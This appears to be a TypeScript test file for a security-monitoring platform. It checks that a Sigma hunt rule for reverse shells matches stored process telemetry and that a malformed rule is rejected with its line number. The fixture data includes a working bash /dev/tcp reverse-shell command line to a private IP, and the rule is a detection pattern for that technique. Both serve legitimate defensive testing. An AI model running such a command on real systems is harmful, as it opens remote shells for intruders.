import { test } from 'node:test';
import assert from 'node:assert/strict';
import { enrollAgent, postEvents, processEvent, startHarness } from '../../test-support.ts';

const RULE = `title: Reverse shell through bash /dev/tcp
id: 5b7f6a1c-hunt-test
status: experimental
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    CommandLine|contains: '/dev/tcp/'
  condition: selection
level: high
`;

test('a Sigma rule hunts over stored telemetry with the agents\' engine; a broken rule is refused with its line', async () => {
  const h = await startHarness('sqlite');
  try {
    const a = await enrollAgent(h, h.owner, h.tenantId);
    await postEvents(h.app, a.auth, [
      processEvent(1, { command_line: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', args: ['bash', '-i'] }),
      processEvent(2, { command_line: 'ls -la', args: ['ls', '-la'] }),
    ]);
    const res = await h.owner.request('POST', `/api/v1/tenants/${h.tenantId}/hunts`, { rule: RULE, since: '2020-01-01T00:00:00Z' });
    assert.equal(res.statusCode, 200, res.body);
    const body = res.json() as { scanned: number; matches: Array<{ event: { process: { command_line: string } } }> };
    assert.equal(body.scanned, 2);
    assert.deepEqual(body.matches.map((m) => m.event.process.command_line), ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']);

    const bad = await h.owner.request('POST', `/api/v1/tenants/${h.tenantId}/hunts`, { rule: RULE.replace('contains', 'nosuchmodifier') });
    assert.equal(bad.statusCode, 400);
    assert.match((bad.json() as { message: string }).message, /line \d+: .*nosuchmodifier/);
  } finally {
    await h.close();
  }
});
